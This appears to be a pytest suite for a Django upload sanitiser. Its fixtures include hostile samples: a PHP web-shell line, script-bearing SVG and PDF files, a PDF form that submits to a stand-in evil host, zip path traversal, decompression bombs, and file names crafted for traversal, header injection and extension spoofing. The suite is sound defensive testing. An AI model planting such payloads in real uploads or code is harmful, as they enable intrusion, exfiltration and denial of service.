"""An upload is what its bytes say; everything that runs, hides or floods is refused with a sentence."""

import io
import re
import struct
import zipfile
import zlib

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pillow_heif import from_pillow

from documents.models import StoredFile
from documents.services import UploadRefused, store_file, store_photo
from documents.services.uploads import clean_name
from tests.factories.documents import PDF

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
DOCX_MAIN = f'<Override ContentType="{DOCX}.main+xml"/>'.encode()


def upload(body, name="scan.pdf"):
    return SimpleUploadedFile(name, body)


def pdf_with(words):
    return PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + words)


def saved_pdf(change=lambda pdf: None, **how):
    held = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as pdf:
        change(pdf)
        pdf.save(held, **how)
    return held.getvalue()


def packed_pdf(words):
    """What stands in a packed stream of objects is found too."""
    packed = pikepdf.ObjectStreamMode.generate
    return saved_pdf(
        lambda pdf: pdf.Root.update({"/Names": pikepdf.Object.parse(words)}), object_stream_mode=packed
    )


def packed_parts():
    def many(pdf):
        pdf.Root.Many = pikepdf.Array(pdf.make_indirect(pikepdf.Dictionary()) for _ in range(101_000))

    return saved_pdf(many, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def bomb_pdf(spaces=270_000_000):
    """Its pages stand in a packed stream that unpacks to more than the inspector may hold."""
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R>>",
    ]
    starts = [sum(len(part) + 1 for part in parts[:number]) for number in range(3)]
    index = b" ".join(b"%d %d" % (number, start) for number, start in enumerate(starts, 1))
    packed = zlib.compress(index + b"\n" + b" ".join(parts) + b" " * spaces, 1)
    head = b"<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>" % (len(index) + 1, len(packed))
    body = b"%PDF-1.7\n9 0 obj\n" + head + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    rows = [(2, 9, 0), (2, 9, 1), (2, 9, 2), (1, 9, 0), (1, len(body), 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    head = b"<</Type/XRef/Size 11/W[1 4 1]/Index[1 3 9 2]/Root 1 0 R/Length %d>>" % len(table)
    end = b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)
    return body + b"10 0 obj\n" + head + b"\nstream\n" + table + end


def looped_pdf(name=b"/Prev"):
    body = saved_pdf()
    start = body.rpartition(b"startxref\n")[2].split()[0]
    return body.replace(b"trailer <<", b"trailer << " + name + b" " + start)


def docx(**entries):
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, body in {"[Content_Types].xml": DOCX_MAIN, "word/document.xml": b"<w/>", **entries}.items():
            packed.writestr(name, body)
    return held.getvalue()


def picture(kind="JPEG", size=(80, 40), **options):
    held = io.BytesIO()
    drawn = Image.new("RGB", size, "teal")
    if kind == "HEIF":  # by the library itself: the program has to make itself able to read it
        from_pillow(drawn).save(held)
    else:
        drawn.save(held, kind, **options)
    return held.getvalue()


def flood_png(width, height):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 999))
        + chunk(b"IEND", b"")
    )


REFUSED = {
    "nothing": (b"", "scan.pdf"),
    "a page": (b"<!doctype html><script>alert(1)</script>", "scan.pdf"),
    "a program": (b"MZ\x90\x00" + b"\0" * 200, "scan.pdf"),
    "a drawing": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "map.svg"),
    "an archive called a PDF": (docx(), "scan.pdf"),
    "a script called a picture": (b"<?php system($_GET[0]); ?>", "photo.jpg"),
    "a PDF that runs a script": (pdf_with(b"/Names << /JavaScript 2 0 R >>"), "scan.pdf"),
    "a PDF that hides the word": (pdf_with(b"/Names << /J#61v#61Script 2 0 R >>"), "scan.pdf"),
    "a PDF that acts when opened": (pdf_with(b"/OpenAction << /S /Named /N /Print >>"), "scan.pdf"),
    "a PDF that starts a program": (pdf_with(b"/A << /S /Launch /F (x) >>"), "scan.pdf"),
    "a PDF with a file in it": (pdf_with(b"/Names << /EmbeddedFiles 3 0 R >>"), "scan.pdf"),
    "a locked PDF": (saved_pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "scan.pdf"),
    "a PDF locked against changes": (
        saved_pdf(encryption=pikepdf.Encryption(owner="o", user="")),
        "scan.pdf",
    ),
    "a PDF with packed script": (packed_pdf(b"<< /A << /S /JavaScript /JS (x) >> >>"), "scan.pdf"),
    "a PDF that unpacks for ever": (bomb_pdf, "scan.pdf"),
    "a PDF with a table that leads to itself": (looped_pdf(), "scan.pdf"),
    "a PDF of packed parts": (packed_parts, "scan.pdf"),
    "a PDF that acts when a page opens": (pdf_with(b"/AA << /O << /S /GoTo >> >>"), "scan.pdf"),
    "a PDF that sends a form": (pdf_with(b"/A << /S /SubmitForm /F (http://evil.example) >>"), "scan.pdf"),
    "a PDF nested without end": (pdf_with(b"/X " + b"[" * 3000 + b"]" * 3000), "scan.pdf"),
    "a PDF cut off": (PDF[:-8], "scan.pdf"),
    "a PDF with an archive behind it": (PDF + docx(), "scan.pdf"),
    "a PDF of a million parts": (b"%PDF-1.7\n" + b"1 0 obj\n<<>>\nendobj\n" * 250_000 + b"%%EOF", "scan.pdf"),
    "a Word file with macros": (docx(**{"word/vbaProject.bin": b"x"}), "terms.docx"),
    "a Word file of the macro kind": (
        docx(**{"[Content_Types].xml": DOCX_MAIN + b"macroEnabled"}),
        "terms.docx",
    ),
    "a Word file that leaves its folder": (docx(**{"../../etc/cron": b"x"}), "terms.docx"),
    "a Word file that is a bomb": (docx(**{"word/media/x.emf": b"\0" * 60_000_000}), "terms.docx"),
    "a Word file that loads a template": (
        docx(**{"word/_rels/settings.xml.rels": b'<R Type="attachedTemplate" TargetMode="External"/>'}),
        "terms.docx",
    ),
    "a Word file that names entities": (
        docx(**{"word/document.xml": b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa">]><w>&a;</w>'}),
        "terms.docx",
    ),
    "another archive": (zlib.compress(b"x"), "terms.docx"),
    "a picture of 900 megapixels": (flood_png(30_000, 30_000), "photo.png"),
    "a picture of 60 megapixels": (flood_png(10_000, 6_000), "photo.png"),
    "a picture cut off": (picture()[:300], "photo.jpg"),
    "a PDF called a picture": (PDF, "photo.jpg"),
    "a drawing in XML": (b"<?xml version='1.0'?><svg/>", "map.svg"),
    "a sheet of the other kind": (
        docx(**{"[Content_Types].xml": b"sheet.macroEnabled.main+xml"}),
        "list.xlsm",
    ),
    "a sheet": (docx(**{"[Content_Types].xml": b"spreadsheetml.sheet.main+xml"}), "list.xlsx"),
    "a shortcut": (b"L\x00\x00\x00\x01\x14\x02\x00", "scan.lnk"),
    "a TIFF": (b"II*\x00\x08\x00\x00\x00", "scan.tif"),
    "an AVIF": (b"\x00\x00\x00\x1cftypavif" + b"\0" * 40, "photo.heic"),
    "a WebP": (b"RIFF\x24\x00\x00\x00WEBPVP8 ", "photo.webp"),
    "a picture with code before it": (b"<?php ?>" + picture(), "photo.jpg"),
    "a moving picture": (b"GIF89a" + b"\0" * 100, "photo.gif"),
}


WHY = {
    "locked": "password protected",
    "script called a picture": "not of a kind",
    "script": "holds a script",
    "acts": "holds a script",
    "hides the word": "holds a script",
    "starts a program": "holds a script",
    "file in it": "holds a script",
    "sends a form": "holds a script",
    "leads to itself": "could not be opened",
    "parts": "too many parts",
    "unpacks": "could not be opened",
    "macros": "holds macros",
    "entities": "not a plain Word document",
    "megapixels": "million points",
}


@pytest.mark.postgres
@pytest.mark.parametrize("what", REFUSED)
def test_what_runs_hides_or_floods_is_refused(what, clerk):
    body, name = REFUSED[what]
    with pytest.raises(UploadRefused) as refused:
        store_file(upload=upload(body() if callable(body) else body, name), by=clerk)
    assert next((why for words, why in WHY.items() if words in what), "") in " ".join(refused.value.messages)
    assert not StoredFile.objects.exists()


@pytest.mark.parametrize(
    ("body", "name", "content_type"),
    [
        (PDF, "scan.PDF", "application/pdf"),
        (saved_pdf(linearize=True), "scan.pdf", "application/pdf"),
        (bomb_pdf(spaces=9), "scan.pdf", "application/pdf"),
        (looped_pdf(b"/Other"), "scan.pdf", "application/pdf"),
        (pdf_with(b"/OpenAction [3 0 R /Fit]"), "scan.pdf", "application/pdf"),
        (picture(), "scan.jpeg", "image/jpeg"),
        (picture("PNG"), "seal.png", "image/png"),
        (picture("HEIF"), "IMG_1.HEIC", "image/jpeg"),
        (docx(), "terms.docx", DOCX),
    ],
)
def test_the_kinds_we_keep_are_kept_under_a_name_of_ours(body, name, content_type, clerk):
    kept = store_file(upload=upload(body, name), by=clerk)
    assert kept.content_type == content_type
    assert name.rpartition(".")[0] not in kept.file.name
    assert kept.file.size == kept.size


def test_a_file_over_the_limit_is_refused(settings, clerk):
    settings.UPLOAD_MAX_BYTES = 100
    with pytest.raises(UploadRefused):
        store_file(upload=upload(PDF + b" " * 100), by=clerk)


def test_only_the_kinds_asked_for_are_taken(clerk):
    with pytest.raises(UploadRefused):
        store_file(upload=upload(PDF), by=clerk, allowed=("image",))


def test_a_photo_loses_place_and_time_and_stays_upright(clerk):
    exif = Image.Exif()
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    full, preview = store_photo(upload=upload(picture(exif=exif, size=(3000, 1000)), "a.jpg"), by=clerk)
    for kept in (full, preview):
        with kept.file.open() as stored, Image.open(stored) as seen:
            assert not seen.getexif()
            assert "exif" not in seen.info
            assert seen.height > seen.width
            assert max(seen.size) == (2560 if kept is full else 640)


def test_a_photo_keeps_no_byte_of_what_the_camera_wrote(clerk):
    """Place, maker, thumbnail of faces, XMP, ICC profile, comment and whatever follows the picture."""
    exif = Image.Exif()
    exif[0x010F] = "MAKER-CANARY"
    exif.get_ifd(0x8825)[1] = "GPS-CANARY"
    body = picture(
        comment=b"COMMENT-CANARY",
        size=(90, 90),
        exif=exif,
        icc_profile=b"ICC-CANARY" * 20,
        xmp=b"<x>XMP-CANARY</x>",
    )
    thumbnail = b"\xff\xe1\x00\x16Exif\x00\x00FACE-CANARY\x00\x00\x00"
    body = body[:2] + thumbnail + body[2:] + docx() + b"<?php TAIL-CANARY ?>"
    assert body.count(b"CANARY") > 7
    for kept in store_photo(upload=upload(body, "a.jpg"), by=clerk):
        with kept.file.open() as stored:
            assert not re.search(rb"CANARY|Exif|ICC_PROFILE|PK\x03\x04|adobe", stored.read())


def test_a_drawing_of_letters_keeps_no_words_beside_its_points(clerk):
    words = PngInfo()
    words.add_text("Author", "AUTHOR-CANARY", zip=False)
    kept = store_file(upload=upload(picture("PNG", pnginfo=words), "seal.png"), by=clerk)
    with kept.file.open() as stored:
        assert b"CANARY" not in stored.read()


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\scans\\a.pdf", "a.pdf"),
        ("a\x00b.pdf", "ab.pdf"),
        ("x.pdf\r\nSet-Cookie: a", "x.pdfSet-Cookie a"),
        ("gpj\u202eexe.pdf", "gpjexe.pdf"),
        ("Querétaro 和歌山.pdf", "Querétaro 和歌山.pdf"),
    ],
)
def test_file_names_are_safe_to_show_and_to_send(given, kept):
    assert clean_name(given) == kept


def test_a_long_file_name_keeps_its_ending():
    name = clean_name("x" * 300 + ".pdf")
    assert len(name) <= 151
    assert name.endswith(".pdf")
